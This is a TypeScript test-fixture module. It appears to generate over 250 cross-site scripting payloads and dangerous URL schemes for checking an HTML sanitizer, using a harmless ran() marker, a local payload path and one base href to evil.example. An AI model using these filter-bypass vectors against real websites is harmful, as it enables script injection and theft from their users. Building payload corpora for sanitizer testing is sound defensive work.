/**
 * Texts that run a script or ask for something wherever they are taken for markup or for an address: `ran()` is called
 * where one runs, and `/hys-payload` is asked for where one loads something.
 */
const MARKUP = [
  '<script>ran()</script>',
  '<script src=/hys-payload></script>',
  '<img src=x onerror=ran()>',
  '<img src="/hys-payload">',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><use href="/hys-payload#x"/></svg>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="/hys-payload"></object>',
  '<embed src="/hys-payload">',
  '<link rel=stylesheet href=/hys-payload>',
  '<style>@import "/hys-payload"</style>',
  '<style>*{background:url(/hys-payload)}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=/hys-payload">',
  '<form action="/hys-payload"><button autofocus onfocus=ran()>x</button></form>',
  '<input autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>x</details>',
  '<video><source onerror=ran() src=/hys-payload></video>',
  '<audio src=/hys-payload onerror=ran()>',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<template><script>ran()</script></template>',
  '<a href="javascript:ran()">x</a>',
  '<div style="background:url(/hys-payload)">x</div>',
  '<x-y onclick=ran() tabindex=1 autofocus onfocus=ran()>x</x-y>',
  '<!--<img src="--><img src=x onerror=ran()>">',
  '<hys-you-said-we-did src="/hys-payload"></hys-you-said-we-did>',
] as const;

const entities = (text: string) => text.replace(/[<>"&]/g, (character) => `&#${character.charCodeAt(0)};`);
const twice = (text: string) => entities(entities(text));

/** What a text may stand in before somebody takes it for something else. */
const SURROUNDINGS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</title></textarea></style></script>${payload}`,
  (payload) => `]]>${payload}`,
  (payload) => `-->${payload}`,
  entities,
  twice,
  (payload) => payload.replace(/<(\w)/g, (_, letter: string) => `<\u0000${letter.toUpperCase()}`),
];

const ADDRESSES = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' javascript:ran()',
  'java\nscript:ran()',
  'java\tscript:ran()',
  '\u0001javascript:ran()',
  'javascript&colon;ran()',
  '&#106;avascript:ran()',
  'javascript://%0aran()',
  'vbscript:ran()',
  'data:text/html,<script>parent.ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=ran()>',
  'blob:https://example.org/x',
  'file:///etc/passwd',
  'filesystem:https://example.org/x',
  'about:blank',
  'view-source:https://example.org',
  'intent://x#Intent;end',
  'feed:javascript:ran()',
] as const;

/** At least 250 of our own. */
export const payloads: readonly string[] = [
  ...MARKUP.flatMap((payload) => SURROUNDINGS.map((surround) => surround(payload))),
  ...ADDRESSES,
];
